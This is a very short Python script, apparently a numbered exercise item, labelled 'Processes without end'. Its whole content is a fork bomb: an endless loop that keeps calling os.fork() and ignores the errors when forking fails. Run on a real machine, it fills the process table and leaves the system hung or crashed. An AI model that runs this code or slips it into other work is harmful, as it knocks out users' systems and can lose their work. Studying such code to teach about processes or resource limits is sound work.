# Processes without end.
# ruff: noqa: SIM105
# %% q2
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
